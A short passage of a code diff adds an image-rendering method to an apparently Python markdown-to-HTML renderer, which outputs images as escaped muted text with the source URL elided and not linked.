+                out.append(_esc(token.content))
+
+    def _image(self, token: Token) -> str:
+        """An image as muted text: never an <img>, and its URL is not a link either."""
+        src = str(token.attrGet("src") or "")
+        alt = " ".join(token.content.split())
+        label = f"[{self.labels.image}: {alt}]" if alt else f"[{self.labels.image}]"
+        self._budget -= _COST_ELEMENT
+        return f'<span class="m">{_esc(label)} {_esc(_elide(src))}</span>'
